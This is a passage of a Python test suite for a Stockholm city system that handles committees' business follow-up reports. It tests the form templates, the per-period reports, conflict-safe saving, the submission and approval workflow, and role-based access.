"""Follow-up reports (uppföljningsrapport näringsliv) as the committees' officials, the SBR
coordinator and the city management office meet them: the 2022 form as data with its questions
verbatim, copying a template to a new year, questions for some committees only, one report per
committee and period (T1 = January–April, T2 = May–August, VB = the whole year), saving without
ever losing text (two officials saving the same answer: the second gets 409 with both texts),
draft → submitted → returned for completion → approved, the facts the data knows for the
committee's business areas and the period (hand-counted on known data, across period borders),
frozen at submission, the PDF, Word and CSV versions, the city-wide compilation, and who may write,
read and decide.

Swedish is the default language, so what the user reads is asserted in Swedish. The clock is
Monday 2026-11-23 10:00 in Stockholm."""

import csv
import html as html_lib
import io
import re
import subprocess
import unicodedata
from datetime import date, datetime
from pathlib import Path

import pytest
from docx import Document
from sqlmodel import select

from coordination.actions.models import ActionItem
from coordination.cases.models import CaseEvent
from coordination.clock import STOCKHOLM, WorkingDays
from coordination.companies.models import (
    Company,
    CompanyArea,
    DevelopmentProject,
    OutreachEntry,
)
from coordination.errors import ValidationFailed
from coordination.meetings.models import Meeting, MeetingSeries
from coordination.reports import services
from coordination.reports.models import (
    Report,
    ReportAnswer,
    ReportQuestion,
    ReportTemplate,
)
from tests import factories
from tests.conftest import PG_URL, fresh, sign_in

# --- the 2022 form, transcribed from the two committees' reports (seeds 000 and 001) ----------------

FOCUS_AREAS = {1: "Stimulera tillväxt och företagsamhet",
               2: "Förbättra service, tillgänglighet och myndighetsutövning",
               3: "Attraktivare miljöer och bättre framkomlighet"}
QUESTIONS_2022 = [
    (1, "Beskriv samverkan med det lokala näringslivet inom stadsdelsnämndens geografiska område."),
    (1, 'Beskriv nämndens arbete med "Växla upp Stockholm"'),
    (2, "Hur sker samverkan med socialnämnden, rättsvårdande myndigheter och skatteverket i arbetet mot den svarta "
        "ekonomin och organiserad brottslighet i näringslivet?"),
    (3, "Beskriv nämndens arbete med att utveckla stadens renodlade verksamhetsområden med hänsyn till "
        "näringslivet, beskriv också eventuell samverkan med andra nämnder och bolag i det arbetet."),
    (3, "Hur samverkar och utvecklar nämnden arbetet med platssamverkan och platsaktivering på prioriterade "
        "platser eller områden för att skapa en trygg närmiljö för det lokala näringslivet?"),
    (3, "Hur samverkar nämnden för att underlätta för närvaron av kultur i det offentliga rummet?"),
    (3, "Hur sker samarbetet med att bistå i Stockholm Business Region ABs och arbetsmarknadsnämndens arbete för "
        "ökad hållbar tillväxt och företagande inom stadsdelens geografiska område?"),
    (3, "Hur sker samarbetet med Stockholm Business Region AB att stärka dialogen med företag och branscher om "
        "deras behov och hinder för tillväxt?"),
    (None, "Övriga upplysningar"),
]
SEEDS = Path(__file__).resolve().parents[2] / "shared" / "seeds"

# --- helpers ---------------------------------------------------------------------------------------------

def sthlm(y, m, d, hh=10, mm=0):
    return datetime(y, m, d, hh, mm, tzinfo=STOCKHOLM)


def text_of(response) -> str:
    """The page's text with tags removed and whitespace collapsed, as a reader sees it."""
    page = response.get_data(as_text=True)
    page = re.sub(r"<(script|style)\b.*?</\1>", " ", page, flags=re.S)
    return html_lib.unescape(re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", page))).strip()


def squash(text: str) -> str:
    return re.sub(r"\s+", " ", unicodedata.normalize("NFKC", text)).strip()


def flashes(response) -> list[str]:
    return [html_lib.unescape(m) for m in
            re.findall(r'<p class="flash flash-\w+">([^<]*)</p>', response.get_data(as_text=True))]


def url(committee, year=2026, period="T1"):
    return f"/rapporter/{committee.id}/{year}/{period}"


def questions(app, committee, year=2026):
    with fresh(app) as s:
        template = s.exec(select(ReportTemplate).where(ReportTemplate.year <= year)
                          .order_by(ReportTemplate.year.desc())).first()
        return services.questions_for(s, template.id, committee.id)


def report_of(app, committee, year=2026, period="T1") -> Report | None:
    with fresh(app) as s:
        return s.exec(select(Report).where(Report.committee_id == committee.id, Report.year == year,
                                           Report.period == period)).first()


def answers_of(app, report_id) -> dict[int, str]:
    with fresh(app) as s:
        return {a.question_id: a.text for a in s.exec(select(ReportAnswer).where(ReportAnswer.report_id == report_id))}


def versions_of(app, report_id) -> dict[int, int]:
    with fresh(app) as s:
        return {a.question_id: a.version for a in s.exec(select(ReportAnswer).where(ReportAnswer.report_id == report_id))}


def form(app, report_id, qs, texts: dict[int, str], **contact) -> dict:
    """What the report form sends: every question's text and the version the page was read at."""
    versions = versions_of(app, report_id)
    data = {"contact_name": contact.get("name", ""), "contact_phone": contact.get("phone", ""),
            "contact_email": contact.get("email", ""), "action": contact.get("action", "save")}
    current = answers_of(app, report_id)
    for q in qs:
        data[f"answer-{q.id}"] = texts.get(q.id, current.get(q.id, ""))
        data[f"version-{q.id}"] = str(versions.get(q.id, 0))
    return data


def textarea(response, question_id) -> str:
    found = re.search(rf'<textarea id="answer-{question_id}" name="answer-{question_id}"[^>]*>(.*?)</textarea>',
                      response.get_data(as_text=True), re.S)
    assert found, f"no field for question {question_id}"
    return html_lib.unescape(found.group(1)).strip()


def start(app, client, writer, committee, year=2026, period="T1") -> Report:
    """The serving organisation's official starts the report by opening it."""
    response = sign_in(client, writer).get(url(committee, year, period))
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    return report_of(app, committee, year, period)


def make_report(session, committee, *, year=2026, period="T1", status="draft", answers=None, facts=None,
                contact=("Anna Andersson", "08-508 000 00", "anna.andersson@stockholm.se")) -> Report:
    """A report as it stands after the steps the other tests go through (without computing facts)."""
    template = session.exec(select(ReportTemplate).where(ReportTemplate.year <= year)
                            .order_by(ReportTemplate.year.desc())).first()
    report = Report(template_id=template.id, committee_id=committee.id, year=year, period=period, status=status,
                    contact_name=contact[0], contact_phone=contact[1], contact_email=contact[2],
                    facts=facts if facts is not None else ({} if status == "draft" else {"period": f"{year} {period}"}),
                    submitted_at=None if status == "draft" else sthlm(year, 9, 1))
    session.add(report)
    session.flush()
    for question_id, text in (answers or {}).items():
        session.add(ReportAnswer(report_id=report.id, question_id=question_id, text=text, version=1,
                                 updated_at=sthlm(year, 9, 1)))
    session.commit()
    return report


# --- the people and the committees ------------------------------------------------------------------------

@pytest.fixture
def w(session):
    """Enskede-Årsta-Vantör's committee (its förvaltning writes the report; two officials) with
    Högdalens industriområde and Årsta Partihallar; Norrmalm's committee with the City area."""
    eav_org = factories.organisation(session, name="Enskede-Årsta-Vantörs stadsdelsförvaltning", short_name="EÅV")
    norrmalm_org = factories.organisation(session, name="Norrmalms stadsdelsförvaltning", short_name="NOR")
    sbr = factories.organisation(session, name="Stockholm Business Region", short_name="SBR")
    tk = factories.organisation(session, name="Trafikkontoret", short_name="TK")
    eav = factories.committee(session, name="Enskede-Årsta-Vantörs stadsdelsnämnd", organisation_id=eav_org.id)
    norrmalm = factories.committee(session, name="Norrmalms stadsdelsnämnd", organisation_id=norrmalm_org.id)
    people = dict(
        writer=factories.user(session, "department", organisation_id=eav_org.id, name="Eva Ek"),
        colleague=factories.user(session, "department", organisation_id=eav_org.id, name="Sven Berg"),
        norrmalm_official=factories.user(session, "department", organisation_id=norrmalm_org.id, name="Nils Nord"),
        tk_official=factories.user(session, "department", organisation_id=tk.id, name="Tora Trafik"),
        coordinator=factories.user(session, "coordinator", organisation_id=sbr.id, name="Sara Samordnare"),
        steering=factories.user(session, "steering", organisation_id=tk.id, name="Stina Styr"),
        admin=factories.user(session, "admin", name="Ada Admin"),
    )
    hogdalen = factories.business_area(session, name="Högdalens industriområde", committee_id=eav.id)
    arsta = factories.business_area(session, name="Årsta Partihallar", committee_id=eav.id)
    city = factories.business_area(session, name="Norrmalm City", committee_id=norrmalm.id)
    session.commit()
    ns = type("W", (), {})()
    ns.__dict__.update(people, eav=eav, norrmalm=norrmalm, eav_org=eav_org, hogdalen=hogdalen, arsta=arsta,
                       city=city, tk=tk)
    return ns


# --- the template as data ---------------------------------------------------------------------------------

def test_the_2022_template_holds_the_forms_questions_verbatim_under_their_focus_areas(session):
    template = session.exec(select(ReportTemplate).where(ReportTemplate.year == 2022)).one()
    rows = session.exec(select(ReportQuestion).where(ReportQuestion.template_id == template.id)
                        .order_by(ReportQuestion.position)).all()

    assert template.name == "Uppföljningsrapport näringsliv 2022"
    assert [(q.focus_area_id, q.text) for q in rows] == QUESTIONS_2022
    texts = [q.text for q in rows]
    assert "Beskriv samverkan med det lokala näringslivet inom stadsdelsnämndens geografiska område." in texts
    assert ("Beskriv nämndens arbete med att utveckla stadens renodlade verksamhetsområden med hänsyn till "
            "näringslivet, beskriv också eventuell samverkan med andra nämnder och bolag i det arbetet.") in texts
    assert all(q.committee_ids == [] for q in rows)  # every committee answers the 2022 form
    assert template.intro.startswith("Detta underlag utgör ett komplement till ordinarie uppföljningen i ILS.")


@pytest.mark.skipif(not SEEDS.is_dir(), reason="the source documents are not next to the project")
def test_the_transcribed_questions_are_word_for_word_those_of_both_committees_reports():
    for name in ("000_553f64dbeac30482.txt", "001_4d5184bc57a443c2.txt"):
        lines = {line.strip() for line in (SEEDS / name).read_text(encoding="utf-8").splitlines()}
        assert [text for _area, text in QUESTIONS_2022 if text not in lines] == [], name
        assert {f"{n}. {title}" for n, title in FOCUS_AREAS.items()} <= lines, name


def test_copying_a_template_to_a_new_year_takes_every_question_and_leaves_the_original(session):
    original = session.exec(select(ReportTemplate).where(ReportTemplate.year == 2022)).one()
    limited = ReportQuestion(template_id=original.id, focus_area_id=3, position=75, committee_ids=[5, 7],
                             text="Beskriv arbetet i Högdalens industriområde.")
    session.add(limited)
    session.commit()

    copy = services.copy_template(session, original, year=2027)
    session.commit()

    def rows(template_id):
        return [(q.focus_area_id, q.position, q.text, q.committee_ids) for q in session.exec(
            select(ReportQuestion).where(ReportQuestion.template_id == template_id).order_by(ReportQuestion.position))]

    assert (copy.year, copy.name, copy.intro) == (2027, "Uppföljningsrapport näringsliv 2027", original.intro)
    assert rows(copy.id) == rows(original.id)
    assert len(rows(copy.id)) == 10
    # The copy is its own: changing it leaves the 2022 form as it was.
    first = session.exec(select(ReportQuestion).where(ReportQuestion.template_id == copy.id)
                         .order_by(ReportQuestion.position)).first()
    first.text = "Beskriv samverkan med näringslivet 2027."
    session.add(first)
    session.commit()
    assert rows(original.id)[0][2] == QUESTIONS_2022[0][1]
    # One template per year.
    with pytest.raises(ValidationFailed):
        services.copy_template(session, original, year=2027)


def test_the_admin_copies_the_form_to_a_new_year_and_reports_of_that_year_use_the_copy(client, app, w, session):
    sign_in(client, w.admin)
    response = client.post("/rapporter/mallar", data={"template_id": "1", "year": "2027"})
    assert response.status_code == 302
    with fresh(app) as s:
        copy = s.exec(select(ReportTemplate).where(ReportTemplate.year == 2027)).one()
    assert response.location.endswith(f"/rapporter/mallar/{copy.id}")
    page = text_of(client.get(response.location))
    assert "Uppföljningsrapport näringsliv 2027" in page
    assert all(squash(text) in page for _area, text in QUESTIONS_2022)

    again = client.post("/rapporter/mallar", data={"template_id": "1", "year": "2027"}, follow_redirects=True)
    assert "Det finns redan en mall för 2027." in flashes(again)
    # Reports are made from the newest template of their year or before.
    with fresh(app) as s:
        for year, template_year in ((2026, 2022), (2027, 2027), (2030, 2027)):
            report = services.get_or_create_report(s, committee_id=w.eav.id, year=year, period="T1")
            assert s.get(ReportTemplate, report.template_id).year == template_year
    # Nobody else manages templates.
    for who in (w.coordinator, w.writer, w.steering):
        assert sign_in(app.test_client(), who).post("/rapporter/mallar",
                                                    data={"template_id": "1", "year": "2028"}).status_code == 403
    with fresh(app) as s:
        assert s.exec(select(ReportTemplate).where(ReportTemplate.year == 2028)).first() is None


# --- questions for some committees only -------------------------------------------------------------------

LIMITED = "Beskriv arbetet med trygghet i Högdalens industriområde och vid Årsta Partihallar."


def _add_limited_question(client, w, template_id=1):
    sign_in(client, w.admin)
    response = client.post(f"/rapporter/mallar/{template_id}", data={
        "text": LIMITED, "focus_area_id": "3", "committee_ids": [str(w.eav.id)]})
    assert response.status_code == 302


def test_a_question_for_some_committees_is_asked_only_of_them_in_the_pdf(client, app, w, session):
    _add_limited_question(client, w)
    eav = make_report(session, w.eav, status="submitted")
    norrmalm = make_report(session, w.norrmalm, status="submitted")

    assert LIMITED in [q.text for q in questions(app, w.eav)]
    assert LIMITED not in [q.text for q in questions(app, w.norrmalm)]
    coordinator = sign_in(app.test_client(), w.coordinator)
    assert squash(LIMITED) in pdf_text(coordinator.get(f"/rapporter/{eav.id}.pdf").data)
    norrmalm_pdf = pdf_text(coordinator.get(f"/rapporter/{norrmalm.id}.pdf").data)
    assert squash(QUESTIONS_2022[0][1]) in norrmalm_pdf
    assert squash(LIMITED) not in norrmalm_pdf


def test_a_question_for_some_committees_is_on_their_form_only_and_others_cannot_answer_it(client, app, w):
    _add_limited_question(client, w)
    limited = next(q for q in questions(app, w.eav) if q.text == LIMITED)

    eav_page = sign_in(app.test_client(), w.writer).get(url(w.eav))
    norrmalm_client = sign_in(app.test_client(), w.norrmalm_official)
    norrmalm_page = norrmalm_client.get(url(w.norrmalm))

    assert LIMITED in text_of(eav_page)
    assert f'name="answer-{limited.id}"' in eav_page.get_data(as_text=True)
    assert LIMITED not in text_of(norrmalm_page)
    # Sending an answer to it anyway stores nothing.
    report = report_of(app, w.norrmalm)
    data = form(app, report.id, questions(app, w.norrmalm), {})
    data[f"answer-{limited.id}"] = "Svar som inte hör hit."
    data[f"version-{limited.id}"] = "0"
    assert norrmalm_client.post(url(w.norrmalm), data=data).status_code == 302
    assert answers_of(app, report.id) == {}


# --- one report per committee and period --------------------------------------------------------------------

def test_periods_are_january_to_april_may_to_august_and_the_whole_year():
    assert services.period_bounds(2026, "T1") == (sthlm(2026, 1, 1, 0), sthlm(2026, 5, 1, 0))
    assert services.period_bounds(2026, "T2") == (sthlm(2026, 5, 1, 0), sthlm(2026, 9, 1, 0))
    assert services.period_bounds(2026, "VB") == (sthlm(2026, 1, 1, 0), sthlm(2027, 1, 1, 0))


def test_the_writer_starts_one_report_per_committee_and_period_and_sees_every_question(client, app, w):
    first = start(app, client, w.writer, w.eav, 2026, "T1")
    again = start(app, client, w.colleague, w.eav, 2026, "T1")
    t2 = start(app, client, w.writer, w.eav, 2026, "T2")
    page = client.get(url(w.eav, 2026, "VB"))

    assert first.id == again.id and t2.id != first.id
    assert (first.status, first.contact_name) == ("draft", "")
    text = text_of(page)
    assert "Uppföljningsrapport: Enskede-Årsta-Vantörs stadsdelsnämnd 2026 VB" in text
    assert "Kontaktperson för eventuella frågor" in text
    for number, title in FOCUS_AREAS.items():
        assert f"{number}. {title}" in text
    assert "Övriga upplysningar" in text
    labels = [html_lib.unescape(m) for m in re.findall(r'<label for="answer-\d+">(.*?)</label>',
                                                        page.get_data(as_text=True), re.S)]
    assert labels == [text for _area, text in QUESTIONS_2022]
    # A period that does not exist is not a report.
    assert client.get(url(w.eav, 2026, "T3")).status_code == 404
    with fresh(app) as s:
        assert len(s.exec(select(Report).where(Report.committee_id == w.eav.id)).all()) == 3


def test_the_report_list_shows_each_committees_status_per_period(client, app, w, session):
    make_report(session, w.eav, period="T1", status="approved")
    make_report(session, w.eav, period="T2", status="submitted")
    make_report(session, w.norrmalm, period="T1", status="returned")

    coordinator = text_of(sign_in(app.test_client(), w.coordinator).get("/rapporter?ar=2026"))
    writer = text_of(sign_in(app.test_client(), w.writer).get("/rapporter?ar=2026"))

    assert "Enskede-Årsta-Vantörs stadsdelsnämnd Godkänd : Enskede-Årsta-Vantörs stadsdelsnämnd T1 Inlämnad" \
        in coordinator
    assert "Norrmalms stadsdelsnämnd Återlämnad för komplettering : Norrmalms stadsdelsnämnd T1 Inte påbörjad" \
        in coordinator
    # The official lists the committees their organisation serves.
    assert "Enskede-Årsta-Vantörs stadsdelsnämnd" in writer and "Norrmalms stadsdelsnämnd" not in writer


# --- saving, conflicts and the report's life --------------------------------------------------------------

def test_the_writer_saves_a_contact_person_and_answers_and_reads_them_back(client, app, w):
    report = start(app, client, w.writer, w.eav)
    qs = questions(app, w.eav)
    texts = {qs[0].id: "Vi träffar företagen i Högdalen varje månad.\nNätverket har 40 medlemmar.",
             qs[3].id: "Samordningsgruppen för Högdalens industriområde och Årsta Partihallar."}

    response = client.post(url(w.eav), data=form(app, report.id, qs, texts, name="Anna Andersson",
                                                 phone="08-508 140 00", email="anna.andersson@stockholm.se"))

    assert response.status_code == 302 and response.location.endswith(url(w.eav))
    page = client.get(url(w.eav))
    assert "Rapporten sparades." in flashes(page)
    assert textarea(page, qs[0].id) == texts[qs[0].id]
    assert textarea(page, qs[3].id) == texts[qs[3].id]
    assert textarea(page, qs[1].id) == ""
    assert 'value="Anna Andersson"' in page.get_data(as_text=True)
    assert answers_of(app, report.id) == texts
    stored = report_of(app, w.eav)
    assert (stored.contact_name, stored.contact_phone, stored.contact_email, stored.status) == (
        "Anna Andersson", "08-508 140 00", "anna.andersson@stockholm.se", "draft")


def test_two_officials_saving_the_same_answer_the_second_gets_409_with_both_texts_and_nothing_is_overwritten(
        client, app, w):
    report = start(app, client, w.writer, w.eav)
    qs = questions(app, w.eav)
    first, other = qs[0].id, qs[1].id
    client.post(url(w.eav), data=form(app, report.id, qs, {first: "Utkast."}))
    # Both open the form at the same version of the answer.
    eva_form = form(app, report.id, qs, {first: "Eva: vi har företagarfrukostar i Högdalen."})
    sven_form = form(app, report.id, qs, {first: "Sven: nätverksträffar med fastighetsägarna.",
                                          other: "Sven: Växla upp Stockholm i Årsta."})

    eva = sign_in(app.test_client(), w.writer).post(url(w.eav), data=eva_form)
    sven_client = sign_in(app.test_client(), w.colleague)
    sven = sven_client.post(url(w.eav), data=sven_form)

    assert eva.status_code == 302
    assert sven.status_code == 409
    text = text_of(sven)
    assert "Någon annan sparade svar medan du skrev" in text
    assert "Inget skrevs över. Båda versionerna visas nedan; sammanfoga dem och spara igen." in text
    assert re.search(r"Sparat av någon annan: Eva: vi har företagarfrukostar i Högdalen\. "
                     r"Din text \(inte sparad\): Sven: nätverksträffar med fastighetsägarna\.", text)
    # What Sven typed is still in his form, the answer stored is Eva's.
    assert textarea(sven, first) == "Sven: nätverksträffar med fastighetsägarna."
    assert textarea(sven, other) == "Sven: Växla upp Stockholm i Årsta."
    assert answers_of(app, report.id)[first] == "Eva: vi har företagarfrukostar i Högdalen."

    # Having seen both, Sven combines them and saves from the version the 409 page gave him.
    combined = "Eva: vi har företagarfrukostar i Högdalen. Sven: nätverksträffar med fastighetsägarna."
    version = re.search(rf'name="version-{first}" value="(\d+)"', sven.get_data(as_text=True)).group(1)
    retry = {**sven_form, f"answer-{first}": combined, f"version-{first}": version}
    assert sven_client.post(url(w.eav), data=retry).status_code == 302
    assert answers_of(app, report.id)[first] == combined
    assert answers_of(app, report.id)[other] == "Sven: Växla upp Stockholm i Årsta."


def test_two_officials_writing_the_first_answer_at_the_same_time_the_second_gets_409(client, app, w):
    report = start(app, client, w.writer, w.eav)
    qs = questions(app, w.eav)
    eva_form = form(app, report.id, qs, {qs[2].id: "Eva: samverkan med polisen."})
    sven_form = form(app, report.id, qs, {qs[2].id: "Sven: samverkan med Skatteverket."})

    assert sign_in(app.test_client(), w.writer).post(url(w.eav), data=eva_form).status_code == 302
    sven = sign_in(app.test_client(), w.colleague).post(url(w.eav), data=sven_form)

    assert sven.status_code == 409
    assert "Eva: samverkan med polisen." in text_of(sven) and "Sven: samverkan med Skatteverket." in text_of(sven)
    assert answers_of(app, report.id) == {qs[2].id: "Eva: samverkan med polisen."}


def test_a_stale_save_through_the_service_reports_both_texts_and_changes_nothing(app, w, session, clock):
    report = make_report(session, w.eav, answers={})
    qs = questions(app, w.eav)
    services.save_answers(session, report, answers=[services.AnswerInput(qs[0].id, "Första.", 0)], contact={},
                          user_id=w.writer.id, clock=clock)
    session.commit()
    services.save_answers(session, report, answers=[services.AnswerInput(qs[0].id, "Andra.", 1)], contact={},
                          user_id=w.writer.id, clock=clock)
    session.commit()

    conflicts = services.save_answers(session, report, answers=[services.AnswerInput(qs[0].id, "Tredje.", 1)],
                                      contact={}, user_id=w.colleague.id, clock=clock)
    session.commit()

    assert [(c.question.id, c.mine, c.theirs) for c in conflicts] == [(qs[0].id, "Tredje.", "Andra.")]
    assert answers_of(app, report.id) == {qs[0].id: "Andra."}
    assert versions_of(app, report.id) == {qs[0].id: 2}


def test_a_long_answer_is_never_cut_short(client, app, w):
    report = start(app, client, w.writer, w.eav)
    qs = questions(app, w.eav)
    long_answer = ("Platssamverkan i Högdalen: trygghetsvandringar, belysning och städning. " * 400).strip()
    assert len(long_answer) > 20000

    response = client.post(url(w.eav), data=form(app, report.id, qs, {qs[4].id: long_answer}))

    stored = answers_of(app, report.id).get(qs[4].id, "")
    kept_in_form = response.status_code == 400 and textarea(response, qs[4].id) == long_answer
    assert stored == long_answer or kept_in_form


def test_a_contact_phone_with_two_numbers_is_saved_whole(client, app, w, session):
    report = make_report(session, w.eav, contact=("", "", ""))
    qs = questions(app, w.eav)
    phone = "08-508 140 00 (växel), 070-123 45 67 (mobil)"

    response = sign_in(client, w.writer).post(url(w.eav), data=form(app, report.id, qs, {}, name="Anna Andersson",
                                                                    phone=phone))

    assert response.status_code == 302
    assert report_of(app, w.eav).contact_phone == phone


def test_draft_submitted_returned_for_completion_and_approved_keeping_every_answer(client, app, w):
    report = start(app, client, w.writer, w.eav)
    qs = questions(app, w.eav)
    texts = {q.id: f"Svar {n}: {q.text[:30]}".strip() for n, q in enumerate(qs, 1)}
    coordinator = sign_in(app.test_client(), w.coordinator)

    # No contact person: not submitted, and what was typed is still in the form.
    refused = client.post(url(w.eav), data=form(app, report.id, qs, texts, action="submit"))
    assert refused.status_code == 400
    assert "Ange en kontaktperson med telefonnummer eller e-postadress." in text_of(refused)
    assert {q.id: textarea(refused, q.id) for q in qs} == texts
    assert report_of(app, w.eav).status == "draft"

    submitted = client.post(url(w.eav), data=form(app, report.id, qs, texts, name="Anna Andersson",
                                                  email="anna.andersson@stockholm.se", action="submit"),
                            follow_redirects=True)
    assert "Rapporten lämnades in." in flashes(submitted)
    assert "Status: Inlämnad" in text_of(submitted)
    assert "Lämna in rapporten" not in text_of(submitted)  # no buttons to change it
    # A submitted report is read-only until returned.
    late = client.post(url(w.eav), data=form(app, report.id, qs, {qs[0].id: "Ändrat i efterhand."}))
    assert late.status_code == 400
    assert "Rapporten är inlämnad; den kan ändras först när den återlämnas." in text_of(late)
    assert answers_of(app, report.id) == texts

    # The coordinator returns it: a reason is needed.
    no_reason = coordinator.post(f"/rapporter/{report.id}/aterlamna", data={"reason": " "}, follow_redirects=True)
    assert "Ange vad som behöver kompletteras." in " ".join(flashes(no_reason))
    assert report_of(app, w.eav).status == "submitted"
    returned = coordinator.post(f"/rapporter/{report.id}/aterlamna",
                                data={"reason": "Beskriv samverkan med polisen i Högdalen."})
    assert returned.status_code == 302 and returned.location.endswith(url(w.eav))

    page = client.get(url(w.eav))
    assert "Återlämnad för komplettering: Beskriv samverkan med polisen i Högdalen." in text_of(page)
    assert all(textarea(page, q.id) == texts[q.id] for q in qs)
    assert answers_of(app, report.id) == texts

    completed = {**texts, qs[2].id: texts[qs[2].id] + "\nVi träffar lokalpolisen varannan vecka."}
    client.post(url(w.eav), data=form(app, report.id, qs, completed, name="Anna Andersson",
                                      email="anna.andersson@stockholm.se", action="submit"))
    assert report_of(app, w.eav).status == "submitted"
    approved = coordinator.post(f"/rapporter/{report.id}/godkann", follow_redirects=True)
    assert "Rapporten godkändes." in flashes(approved)
    assert "Status: Godkänd" in text_of(approved)
    assert answers_of(app, report.id) == completed
    again = coordinator.post(f"/rapporter/{report.id}/godkann", follow_redirects=True)
    assert "Bara en inlämnad rapport kan godkännas." in " ".join(flashes(again))


def test_returning_and_approving_are_the_coordinators_and_only_of_a_submitted_report(app, w, session):
    draft = make_report(session, w.eav, period="T1")
    submitted = make_report(session, w.eav, period="T2", status="submitted", answers={1: "Inlämnat svar."})
    coordinator = sign_in(app.test_client(), w.coordinator)

    for who in (w.writer, w.colleague, w.steering, w.admin, w.norrmalm_official):
        c = sign_in(app.test_client(), who)
        assert c.post(f"/rapporter/{submitted.id}/godkann").status_code == 403
        assert c.post(f"/rapporter/{submitted.id}/aterlamna", data={"reason": "Komplettera."}).status_code == 403
    refused = coordinator.post(f"/rapporter/{draft.id}/godkann")
    assert refused.status_code == 302
    assert (report_of(app, w.eav, period="T1").status, report_of(app, w.eav, period="T2").status) == (
        "draft", "submitted")

    coordinator.post(f"/rapporter/{submitted.id}/aterlamna", data={"reason": "Komplettera fokusområde 3."})
    stored = report_of(app, w.eav, period="T2")
    assert (stored.status, stored.returned_reason) == ("returned", "Komplettera fokusområde 3.")
    assert answers_of(app, submitted.id) == {1: "Inlämnat svar."}
    # A returned report is not approved before it is submitted again.
    assert coordinator.post(f"/rapporter/{submitted.id}/godkann").status_code == 302
    assert report_of(app, w.eav, period="T2").status == "returned"


def test_only_the_serving_organisations_officials_write_the_report(app, w, session):
    report = make_report(session, w.eav, answers={1: "Eva:s svar."})
    qs = questions(app, w.eav)
    hostile = form(app, report.id, qs, {1: "Överskrivet!"}, name="Någon annan", phone="1")

    for who in (w.coordinator, w.steering, w.admin, w.norrmalm_official, w.tk_official):
        assert sign_in(app.test_client(), who).post(url(w.eav), data=hostile).status_code == 403
    # Officials of other organisations neither read it nor start one.
    for who in (w.norrmalm_official, w.tk_official):
        c = sign_in(app.test_client(), who)
        assert c.get(url(w.eav)).status_code == 403
        assert c.get(url(w.eav, period="T2")).status_code == 403
        for suffix in (".pdf", ".docx", "/fakta.csv"):
            assert c.get(f"/rapporter/{report.id}{suffix}").status_code == 403
    # Steering members read submitted reports only; the draft is not theirs yet.
    assert sign_in(app.test_client(), w.steering).get(f"/rapporter/{report.id}.pdf").status_code == 403

    stored = report_of(app, w.eav)
    assert answers_of(app, report.id) == {1: "Eva:s svar."}
    assert (stored.contact_name, stored.contact_phone) == ("Anna Andersson", "08-508 000 00")
    assert report_of(app, w.eav, period="T2") is None


# --- the facts ----------------------------------------------------------------------------------------------

def _case(s, clock, area, focus, received, *, triaged=None, merged_into=None, title=None):
    case = factories.case(s, clock=clock, received_at=received, business_area_id=area.id,
                          title=title or f"Ärende {received:%Y-%m-%d %H:%M}")
    case.focus_area_id, case.triaged_at = focus, triaged
    if triaged:
        case.level, case.status = 1, "triaged"
    if merged_into:
        case.merged_into_id, case.status = merged_into.id, "merged"
    s.add(case)
    s.flush()
    return case


def _event(s, case, kind, at, *, to_level=None, reason=""):
    s.add(CaseEvent(case_id=case.id, at=at, kind=kind, to_level=to_level,
                    from_level=to_level - 1 if to_level else None, reason=reason))


@pytest.fixture
def data(session, clock, w):
    """Cases, events, action items, meetings and outreach of 2025–2026, most in the committee's
    two areas and some in Norrmalm's (which must not count). Working days skip weekends, Swedish
    public holidays and julafton/nyårsafton/midsommarafton."""
    s, hog, ars, city = session, w.hogdalen, w.arsta, w.city
    c = {}
    c["c11"] = _case(s, clock, hog, 1, sthlm(2026, 1, 7, 9), triaged=sthlm(2026, 1, 12))    # 3 wd (6 Jan off)
    c["c1"] = _case(s, clock, hog, 1, sthlm(2026, 2, 10, 9), triaged=sthlm(2026, 2, 12))    # 2 wd
    c["c2"] = _case(s, clock, ars, 3, sthlm(2026, 4, 28, 14), triaged=sthlm(2026, 5, 4))    # 3 wd (1 May off)
    c["c3"] = _case(s, clock, hog, 3, sthlm(2026, 4, 30, 23, 30))                            # T1, 30 min before T2
    c["c4"] = _case(s, clock, hog, 3, sthlm(2026, 5, 1, 0, 30), triaged=sthlm(2026, 5, 4))  # T2; 1 wd
    c["c5"] = _case(s, clock, ars, 2, sthlm(2026, 6, 15, 8), triaged=sthlm(2026, 6, 17))    # 2 wd
    c["c6"] = _case(s, clock, hog, 1, sthlm(2026, 9, 10, 9), triaged=sthlm(2026, 9, 11))    # 1 wd
    c["c8"] = _case(s, clock, hog, 1, sthlm(2026, 2, 11), merged_into=c["c1"])             # merged: not counted
    c["c9"] = _case(s, clock, hog, 4, sthlm(2025, 12, 19, 9), triaged=sthlm(2025, 12, 22))  # received 2025
    c["c10"] = _case(s, clock, ars, None, sthlm(2026, 3, 3))                                 # no focus area yet
    c["c7"] = _case(s, clock, city, 1, sthlm(2026, 2, 11), triaged=sthlm(2026, 2, 20))     # Norrmalm's
    _event(s, c["c1"], "closed", sthlm(2026, 3, 20), reason="Skyltningen är åtgärdad.")
    _event(s, c["c9"], "closed", sthlm(2026, 1, 15), reason="Bygglovet beviljades.")
    _event(s, c["c2"], "closed", sthlm(2026, 5, 20), reason="Belysning uppsatt vid lastkajen.")
    _event(s, c["c7"], "closed", sthlm(2026, 3, 1), reason="Norrmalms beslut.")
    _event(s, c["c3"], "escalated", sthlm(2026, 4, 30, 23, 50), to_level=2)
    _event(s, c["c5"], "escalated", sthlm(2026, 6, 22), to_level=2)
    _event(s, c["c5"], "escalated", sthlm(2026, 8, 31, 15), to_level=3)
    _event(s, c["c5"], "decision", sthlm(2026, 8, 31, 16), reason="Trafikkontoret utreder en ny infart.")
    _event(s, c["c6"], "escalated", sthlm(2026, 9, 15), to_level=2)
    _event(s, c["c7"], "escalated", sthlm(2026, 2, 25), to_level=2)
    now = clock.now()
    for case, due, status in (("c1", date(2026, 3, 1), "planned"), ("c11", date(2026, 4, 30), "planned"),
                              ("c2", date(2026, 6, 1), "in_progress"), ("c5", date(2026, 6, 10), "done"),
                              ("c5", date(2026, 12, 10), "planned"), ("c6", date(2026, 10, 1), "blocked"),
                              ("c7", date(2026, 3, 1), "planned")):
        s.add(ActionItem(case_id=c[case].id, organisation_id=w.tk.id, title=f"Åtgärd {case} {due}", due_date=due,
                         status=status, created_at=now, updated_at=now))
    groups = {area.id: factories.group(s, "work_group", business_area_id=area.id, name=f"Arbetsgrupp {area.name}")
              for area in (hog, ars, city)}
    for n, (area, day, status) in enumerate(((hog, sthlm(2026, 3, 10), "planned"), (hog, sthlm(2026, 6, 10), "planned"),
